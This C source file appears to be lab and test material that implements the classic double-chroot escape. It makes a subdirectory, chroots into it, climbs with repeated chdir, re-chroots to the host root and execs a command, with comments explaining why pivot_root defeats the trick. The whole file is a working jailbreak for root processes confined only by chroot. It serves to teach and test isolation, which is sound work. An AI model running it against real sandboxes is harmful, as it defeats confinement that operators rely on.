/* The classic double-chroot escape, for labs/01 and tests/test_isolation.py.
 *
 * chroot(2) changes where path lookups start, but not the current directory. So a root
 * process that chroots into a subdirectory *while its working directory stays above it*
 * can walk up with chdir("..") past the new root — there is no root to stop at — and
 * chroot(".") at the very top: it is back at the host's real root.
 *
 * Under pivot_root the host's root is unmounted from the container's mount namespace, so
 * the climb ends at the container's own "/". Usage: chroot_escape CMD [ARGS...]
 */
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <unistd.h>
#include <sys/stat.h>

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: %s CMD [ARGS...]\n", argv[0]); return 2; }
    mkdir("/.escape", 0700);                      /* a directory below the current root */
    if (chroot("/.escape") != 0) {                /* new root below us; cwd stays at "/" */
        fprintf(stderr, "chroot(\"/.escape\"): %s\n", strerror(errno));
        return 1;
    }
    for (int i = 0; i < 256; i++)                 /* climb: nothing stops us any more */
        chdir("..");
    if (chroot(".") != 0) {                       /* make the top the root again */
        fprintf(stderr, "chroot(\".\"): %s\n", strerror(errno));
        return 1;
    }
    execv(argv[1], argv + 1);
    fprintf(stderr, "execv(\"%s\"): %s\n", argv[1], strerror(errno));
    return 127;
}
